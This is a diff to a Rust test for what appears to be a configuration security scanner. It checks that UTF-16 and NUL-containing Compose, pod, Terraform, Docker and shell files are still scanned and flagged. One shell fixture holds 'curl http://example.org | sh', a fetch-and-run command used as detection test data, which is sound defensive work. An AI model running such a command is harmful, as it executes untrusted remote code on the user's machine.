@@ -189,10 +189,18 @@ fn nothing_hides_a_file_that_its_name_gives_away() {
     let utf16 = |text: &str| -> Vec<u8> {
         [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
     };
+    for (file, text, check) in
+        [("compose.yaml", COMPOSE, "privileged-container"), ("pod.yaml", POD, "host-pid-namespace")]
+    {
+        let dir = Dir::new(&format!("utf16-{file}"));
+        dir.put(file, utf16(text));
+        let ran = run(&dir, &["scan", ".", "--all"]);
+        assert!(ran.code == Some(0) && ran.out.contains(check), "{file}: {}", ran.all());
+    }
     for (file, bytes) in [
         ("Dockerfile", b"# \0\nFROM debian\n".to_vec()),
-        ("compose.yaml", utf16(COMPOSE)),
-        ("pod.yaml", utf16(POD)),
+        ("compose.yaml", format!("# \0\n{COMPOSE}").into_bytes()),
+        ("pod.yaml", utf16(POD)[..99].to_vec()),
         ("main.tf", format!("# \0\n{BUCKET}").into_bytes()),
         ("run.sh", b"#!/bin/sh\n# \0\ncurl http://example.org | sh\n".to_vec()),
     ] {
